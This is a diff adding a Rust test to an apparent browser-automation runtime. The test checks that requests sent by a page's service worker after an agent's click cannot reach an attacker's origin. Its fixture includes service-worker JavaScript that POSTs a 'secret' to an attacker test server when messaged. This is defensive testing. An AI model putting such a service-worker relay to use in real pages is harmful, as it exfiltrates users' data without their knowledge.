@@ -291,6 +291,49 @@ document.getElementById('go').onclick = () => {
     assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
 }
 
+/// A service worker the page already has runs on its own: what an action asks it to send (a
+/// message to it) is judged too.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_a_service_worker_sends_for_an_action_are_judged() {
+    let env = env("hostile-sw", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.route(
+        "/relay-sw.js",
+        test_support::Route::Content {
+            content_type: "text/javascript".into(),
+            body: format!(
+                "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener('message', (e) => {{ fetch('{evil}/sw-relay', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').catch(() => {{}}); }});"
+            )
+            .into_bytes(),
+        },
+    );
+    env.server.html("/own", "ok");
+    env.server.html(
+        "/relay.html",
+        r#"<!doctype html><title>Relay</title><button id=go>Relay</button><p id=out>idle</p>
+<script>
+navigator.serviceWorker.register('/relay-sw.js').then(() => navigator.serviceWorker.ready).then(() => document.getElementById('out').textContent = 'ready');
+document.getElementById('go').onclick = () => navigator.serviceWorker.ready.then((r) => r.active.postMessage('go'));
+</script>"#,
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/relay.html")).await.unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Relay").await;
+    for _ in 0..100 {
+        let o = env.runtime.observe(&env.session, None, &Default::default()).await.unwrap();
+        if o.aria_snapshot().contains("ready") {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    env.runtime.act(&env.session, None, &click(&o, "Relay"), &Default::default(), Duration::ZERO).await.unwrap();
+    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
+    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    assert!(reached.is_empty(), "nothing the service worker sent reached the attacker's origin: {reached:?}");
+    assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
+}
+
 /// "Allow for this site" on a click that leads elsewhere grants the origin the person was shown —
 /// the destination — and nothing else: the page's other links to a third origin still ask.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
